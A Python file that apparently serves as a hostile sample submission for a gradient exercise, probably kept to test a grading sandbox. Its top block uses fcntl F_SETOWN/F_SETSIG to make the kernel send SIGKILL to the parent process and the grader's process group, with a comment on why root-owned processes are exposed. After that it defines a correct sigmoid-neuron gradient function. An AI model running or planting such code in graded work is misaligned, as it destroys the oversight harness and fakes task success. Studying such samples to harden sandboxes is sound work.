# exercise: first-gradient
# Hostile: asks the kernel to SIGKILL its zygote and the grader's process group through SIGIO, then behaves
import fcntl
import os
import signal

import torch

# fcntl(F_SETOWN) names who gets SIGIO when a descriptor is ready, F_SETSIG makes it SIGKILL: the kernel
# checks only uids, and in landlock mode as root they were all root. (ioctl FIOSETOWN does the same.)
_aimed = 0
_parent = os.getppid()
for _owner in (_parent, -os.getpgid(_parent)):
    try:
        _r, _w = os.pipe()
        fcntl.fcntl(_r, fcntl.F_SETOWN, _owner)
        fcntl.fcntl(_r, 10, signal.SIGKILL)  # F_SETSIG
        fcntl.fcntl(_r, fcntl.F_SETFL, fcntl.fcntl(_r, fcntl.F_GETFL) | os.O_ASYNC)
        os.write(_w, b"x")
        _aimed += 1
    except OSError as _e:
        print("could not aim SIGIO:", type(_e).__name__)
print("SIGIO aimed at others:", _aimed)


def neuron_grads(x, y, w, b):
    """Loss and gradients of one sigmoid neuron: loss = (sigmoid(w * x + b) - y) ** 2.

    Returns (loss, dL/dw, dL/db) as plain Python floats, computed with loss.backward().
    """
    x = torch.tensor(x, dtype=torch.float64)
    y = torch.tensor(y, dtype=torch.float64)
    w = torch.tensor(w, dtype=torch.float64, requires_grad=True)
    b = torch.tensor(b, dtype=torch.float64, requires_grad=True)
    a = torch.sigmoid(w * x + b)
    loss = (a - y) ** 2
    loss.backward()
    return loss.item(), w.grad.item(), b.grad.item()
